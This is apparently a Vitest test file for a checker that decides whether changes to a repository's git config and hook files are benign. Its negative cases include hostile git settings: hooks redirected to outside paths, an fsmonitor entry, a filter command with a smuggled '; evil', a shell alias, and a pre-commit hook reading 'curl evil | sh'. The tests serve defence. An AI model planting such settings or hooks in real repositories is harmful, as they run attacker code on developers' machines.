import { describe, expect, it } from 'vitest'
import { isGoodFaith, parseSimpleConfig } from '../../../src/git/good-faith.ts'
import type { GuardedFile } from '../../../src/git/guarded-files.ts'

const file = (path: string, text: string): GuardedFile => ({
  path,
  kind: 'file',
  mode: 0o644,
  content: Buffer.from(text).toString('base64'),
  size: text.length,
})
const config = (text: string): GuardedFile => file('/p/.git/config', `[core]\n\tbare = false\n${text}`)

describe('a changed configuration', () => {
  it.each([
    '[core]\n\thooksPath = .husky\n',
    '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n',
    '[user]\n\temail = a@b\n',
    '[branch "a.b"]\n\tremote = origin\n',
  ])('%j is in good faith', (text) => expect(isGoodFaith(config(''), config(text))).toBe(true))

  it.each([
    '[core]\n\thooksPath = /tmp/evil\n',
    '[core]\n\thooksPath = ../evil\n',
    '[core]\n\tfsmonitor = x\n',
    '[filter "lfs"]\n\tclean = git-lfs clean -- %f; evil\n',
    '[filter "lfs"]\n\tprocess = "git-lfs filter-process"\n',
    '[alias]\n\tst = !evil\n',
    '[user]\n\tname = a\\\n\tb\n',
    '[include]\n\tpath = x\n',
  ])('%j is not', (text) => expect(isGoodFaith(config(''), config(text))).toBe(false))

  it('also by what it loses', () => {
    expect(isGoodFaith(config('[user]\n\tname = a\n'), config(''))).toBe(true)
    expect(isGoodFaith(config('[remote "origin"]\n\turl = x\n'), config(''))).toBe(false)
  })
})

describe('a hook', () => {
  it.each(['. "$(dirname "$0")/husky.sh"', '# https://pre-commit.com', 'git lfs post-commit', 'call_lefthook run'])(
    '%j',
    (text) => {
      expect(isGoodFaith(null, file('/p/.git/hooks/pre-commit', text))).toBe(true)
    },
  )
  it('of nobody known is not, nor is a link', () => {
    expect(isGoodFaith(null, file('/p/.git/hooks/pre-commit', 'curl evil | sh'))).toBe(false)
    expect(isGoodFaith(null, { ...file('/p/.git/hooks/pre-commit', ''), kind: 'link', content: 'husky' })).toBe(false)
  })
})

it('reads only what is simple', () => {
  expect(parseSimpleConfig('[Core]\n\tBare\n[remote "My One"] \n url = x\n')).toEqual([
    'core.bare=true',
    'remote.My One.url=x',
  ])
  expect(parseSimpleConfig('[a]\n\tb = "x"\n')).toBeNull()
})
